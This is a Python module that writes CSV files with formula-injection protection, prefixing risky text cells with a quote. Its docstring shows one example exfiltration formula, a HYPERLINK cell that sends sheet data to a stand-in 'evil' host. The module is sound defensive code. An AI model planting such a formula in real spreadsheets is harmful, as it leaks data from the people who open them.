"""CSV cells that a spreadsheet cannot run: the one CSV writer for every CSV that vaar writes.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula
to Excel, LibreOffice and Google Sheets (``=HYPERLINK("https://evil/?"&A1, "click")`` sends the
sheet's data away when clicked). Source lists, and so ``source_id`` and ``notes``, come from pull
requests; split files and label files are opened in spreadsheets by curators. Following OWASP's
advice, such a text cell is written with a leading ``'`` (shown as text, the value itself kept
readable). Numbers (``int``/``float``) are written as they are: ``-0.5`` is a number, not a formula.
Ids that vaar controls (``clip_id``, ``source_id``) are refused earlier, at validation, so a valid
build never needs the prefix; it is the last line of defence for free text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def starts_formula(text: str) -> bool:
    return text.startswith(FORMULA_START)


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and starts_formula(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def write_rows(fh: TextIO, header: Sequence[str], rows: Iterable[Iterable[Any]]) -> None:
    """Write ``header`` and ``rows`` to ``fh`` (``\\n`` line ends), every text cell made safe."""
    w = csv.writer(fh, lineterminator="\n")
    w.writerow(safe_row(header))
    for row in rows:
        w.writerow(safe_row(row))


def csv_bytes(header: Sequence[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """The UTF-8 bytes of a CSV file, as :func:`write_rows` writes it."""
    buf = io.StringIO()
    write_rows(buf, header, rows)
    return buf.getvalue().encode("utf-8")
